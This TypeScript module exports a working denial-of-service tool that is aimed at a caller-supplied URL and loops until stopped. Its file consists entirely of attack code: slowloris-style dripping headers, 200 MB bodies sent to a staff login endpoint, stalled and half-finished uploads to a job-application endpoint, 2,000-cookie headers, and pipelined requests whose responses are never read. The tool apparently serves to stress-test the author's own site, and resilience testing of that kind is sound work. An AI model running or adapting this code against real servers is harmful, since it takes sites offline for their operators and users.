import { type ClientRequest, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

/** The parts of an attack: how many of each are open at once. */
export interface Attack {
  slowConnections: number;
  largeBodies: number;
  stalledBodies: number;
  cookiesPerSecond: number;
  /** Applications whose file stops half way. */
  halfUploads: number;
  /** Readers who request many pages and read none of them. */
  slowReaders: number;
}

/** Number of the attack's requests by answer; `closed` if the connection ended without an answer. */
export type Outcomes = Record<string, number>;

const wide = Buffer.alloc(64 * 1024, 'a');
// 2,000 names fit into the 16 kB that a request's headers may have.
const manyCookies = Array.from({ length: 2000 }, (_, number) => `${number.toString(36)}=`).join('; ');

/**
 * Attacks a site until it is stopped: connections that send a byte a second, bodies of 200 MB to the studio's login,
 * bodies and files that stop half way, headers full of cookies, and readers who do not read. Every request that ends is
 * started again.
 */
export const startAttack = (url: string, attack: Attack) => {
  const { hostname, port } = new URL(url);
  const outcomes: Outcomes = {};
  const open = new Set<Socket | ClientRequest>();
  let going = true;
  const note = (what: string | number): void => {
    outcomes[what] = (outcomes[what] ?? 0) + 1;
  };

  const post = (
    length: number,
    headers: Record<string, string>,
    fill: (sent: ClientRequest) => void,
    path = '/studio/api/staff/login',
  ) =>
    new Promise<void>((resolve) => {
      const sent = request({
        host: hostname,
        port,
        method: 'POST',
        path,
        headers: { 'Content-Type': 'application/json', 'Content-Length': String(length), ...headers },
      });
      open.add(sent);
      let answered = false;
      sent.on('response', (response) => {
        answered = true;
        note(response.statusCode ?? 0);
        response.resume();
      });
      sent.on('error', () => {});
      sent.on('close', () => {
        if (!answered) note('closed');
        open.delete(sent);
        resolve();
      });
      fill(sent);
    });

  const sendLarge = () =>
    post(200_000_000, {}, (sent) => {
      const more = (): void => {
        while (going && !sent.destroyed && sent.write(wide));
      };
      sent.on('drain', more);
      more();
    });

  const sendStalled = () => post(1000, {}, (sent) => sent.write('{"email":'));

  const sendSlow = () =>
    new Promise<void>((resolve) => {
      const socket = connect(Number(port), hostname, () =>
        socket.write('GET / HTTP/1.1\r\nHost: a\r\nX-Slow: '),
      );
      open.add(socket);
      const drip = setInterval(() => socket.write('a'), 1000);
      socket.on('error', () => {});
      socket.on('close', () => {
        clearInterval(drip);
        note('slow, closed');
        open.delete(socket);
        resolve();
      });
    });

  const sendCookies = () => post(2, { Cookie: manyCookies }, (sent) => sent.end('{}'));

  const sendHalfUpload = () =>
    post(
      4_000_000,
      { 'Content-Type': 'multipart/form-data; boundary=b' },
      (sent) => {
        sent.write('--b\r\nContent-Disposition: form-data; name="resume"; filename="r.pdf"\r\n\r\n');
        sent.write(Buffer.alloc(2_000_000, '%'));
      },
      '/api/post-apply-job',
    );

  const askWithoutReading = () =>
    new Promise<void>((resolve) => {
      const socket = connect(Number(port), hostname, () => {
        socket.pause();
        socket.write('GET /gu HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(200));
      });
      open.add(socket);
      socket.on('error', () => {});
      socket.on('close', () => {
        note('unread, closed');
        open.delete(socket);
        resolve();
      });
    });

  const again = async (send: () => Promise<void>, pause: number): Promise<void> => {
    while (going) {
      await send();
      await delay(pause);
    }
  };
  const side = (count: number, send: () => Promise<void>, pause: number) =>
    Array.from({ length: count }, () => again(send, pause));

  const running = [
    ...side(attack.slowConnections, sendSlow, 100),
    ...side(attack.largeBodies, sendLarge, 500),
    ...side(attack.stalledBodies, sendStalled, 100),
    ...side(attack.cookiesPerSecond, sendCookies, 1000),
    ...side(attack.halfUploads, sendHalfUpload, 200),
    ...side(attack.slowReaders, askWithoutReading, 200),
  ];
  return {
    outcomes,
    async stop(): Promise<void> {
      going = false;
      for (const one of open) one.destroy();
      await Promise.all(running);
    },
  };
};
